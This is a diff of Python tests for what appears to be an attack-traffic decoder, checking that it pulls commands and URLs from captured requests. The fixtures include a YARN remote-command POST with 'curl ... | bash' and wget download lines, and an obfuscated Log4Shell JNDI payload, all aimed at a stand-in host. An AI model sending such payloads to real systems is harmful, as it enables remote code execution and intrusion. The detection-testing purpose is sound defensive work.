@@ -75,7 +75,9 @@ def test_a_claim_of_more_than_there_is_is_said() -> None:
 
 
 def test_a_command_in_json_is_a_command_and_lists_of_arguments_are_joined() -> None:
-    body = b'{"am-container-spec":{"commands":{"command":"curl http://192.0.2.7/z.sh | bash"}},"Cmd":["sh","-c","id; wget 192.0.2.7/x"],"n":1}'
+    body = (
+        b'{"am-container-spec":{"commands":{"command":"curl http://192.0.2.7/z.sh | bash"}},"Cmd":["sh","-c","id; wget 192.0.2.7/x"],"n":1}'
+    )
     said = PROTOCOL.decode(Conversation((Turn("in", b"POST /ws/v1/cluster/apps HTTP/1.1\r\nContent-Length: 129\r\n\r\n" + body),)))
     assert said.commands == ("curl http://192.0.2.7/z.sh | bash", "sh -c id; wget 192.0.2.7/x")
     assert "http://192.0.2.7/z.sh" in said.urls
@@ -97,9 +99,7 @@ def test_a_digest_login_has_its_user_and_response() -> None:
 
 
 def test_what_a_lookup_asks_its_server_for_is_told() -> None:
-    line = (
-        b"GET / HTTP/1.1\r\nUser-Agent: ${${lower:j}ndi:ldap://192.0.2.7:1389/Basic/Command/Base64/d2dldCBodHRwOi8vMTkyLjAuMi43L3g=}\r\n\r\n"
-    )
+    line = b"GET / HTTP/1.1\r\nUser-Agent: ${${lower:j}ndi:ldap://192.0.2.7:1389/Basic/Command/Base64/d2dldCBodHRwOi8vMTkyLjAuMi43L3g=}\r\n\r\n"
     said = PROTOCOL.decode(Conversation((Turn("in", line),)))
     assert said.commands == ("wget http://192.0.2.7/x",)
     assert said.urls[0].startswith("ldap://192.0.2.7:1389/Basic/")
